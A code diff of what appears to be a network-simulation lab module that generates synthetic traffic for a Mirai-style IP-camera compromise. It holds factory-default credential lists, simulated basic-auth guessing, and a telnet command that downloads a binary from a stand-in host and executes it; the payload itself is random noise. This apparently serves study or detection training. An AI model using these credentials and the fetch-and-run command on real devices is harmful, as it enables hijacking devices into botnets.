@@ -9,7 +9,13 @@ from cordon.lab.station import Station
 from cordon.lab.talk import http, telnet, tls
 from cordon.lab.wire.tcp import Connection
 
-_WEB_GUESSES: Final = (("admin", "admin"), ("admin", "12345"), ("root", "root"), ("admin", "1111"), ("user", "user"))
+_WEB_GUESSES: Final = (
+    ("admin", "admin"),
+    ("admin", "12345"),
+    ("root", "root"),
+    ("admin", "1111"),
+    ("user", "user"),
+)
 _SHELL_GUESSES: Final = (("root", "xc3511"), ("admin", "admin"), ("root", "888888"), ("root", "xmhdipc"))
 DEFAULT: Final = ("root", "vizxv")
 """Factory login of the cameras that fall (published with the source of Mirai, 2016)."""
@@ -29,9 +35,16 @@ def break_in(lan: Lan, device: Station, stranger: bytes, rng: Random) -> Iterato
     talk = from_outside(lan, stranger, device, 80, lan.now)
     for user, password in _WEB_GUESSES:
         secret = http.basic(user, password)
-        talk.send(http.request("GET", device.ip_text, "/cgi-bin/snapshot.cgi", "python-requests/2.25", headers=(secret,)), SECOND)
+        talk.send(
+            http.request(
+                "GET", device.ip_text, "/cgi-bin/snapshot.cgi", "python-requests/2.25", headers=(secret,)
+            ),
+            SECOND,
+        )
         ask = 'WWW-Authenticate: Basic realm="IP Camera"'
-        talk.reply(http.response(401, "Dahua Rtsp Server", "text/html", b"<html></html>", headers=(ask,)), 9000)
+        talk.reply(
+            http.response(401, "Dahua Rtsp Server", "text/html", b"<html></html>", headers=(ask,)), 9000
+        )
     talk.close()
     yield talk.time + 5 * SECOND
     for at in range(0, len(_SHELL_GUESSES), 2):
@@ -42,18 +55,20 @@ def break_in(lan: Lan, device: Station, stranger: bytes, rng: Random) -> Iterato
     talk = from_outside(lan, stranger, device, 23, lan.now)
     telnet.login(talk, rng, "IPC", [("root", "admin"), DEFAULT], last_works=True)
     telnet.command(talk, rng, "cat /proc/cpuinfo | grep Proc", "Processor\t: ARM926EJ-S rev 5 (v5l)\r\n")
-    telnet.command(talk, rng, "cd /tmp; wget http://upd.firmware-mirror.top/arm7; chmod 777 arm7; ./arm7", "running\r\n")
+    telnet.command(
+        talk, rng, "cd /tmp; wget http://upd.firmware-mirror.top/arm7; chmod 777 arm7; ./arm7", "running\r\n"
+    )
     talk.close()
     yield talk.time
 
 
-def load(lan: Lan, device: Station, host: str, rng: Random) -> int:
-    """Fetches the loader by HTTP in clear; the time it ended."""
+def load(lan: Lan, device: Station, host: str, rng: Random) -> Iterator[int]:
+    """Fetches the loader by HTTP in clear."""
     talk = lan.connect(device, host, 80)
     talk.send(http.request("GET", host, "/arm7", "Wget"))
     body = b"\x7fELF\x01\x01\x01\x61" + tls.noise(rng, 92_000)
     talk.reply(http.response(200, "Apache/2.4.52 (Ubuntu)", "application/octet-stream", body), 60_000)
-    return talk.close()
+    yield talk.close()
 
 
 def spread(lan: Lan, who: Station, prey: Station, rng: Random, *, falls: bool) -> Iterator[int]:
@@ -69,5 +84,3 @@ def spread(lan: Lan, who: Station, prey: Station, rng: Random, *, falls: bool) -
         telnet.command(talk, rng, "cd /tmp; cat > arm7; chmod 777 arm7; ./arm7", "running\r\n")
     talk.close(by_server=not falls)
     yield talk.time
-
-
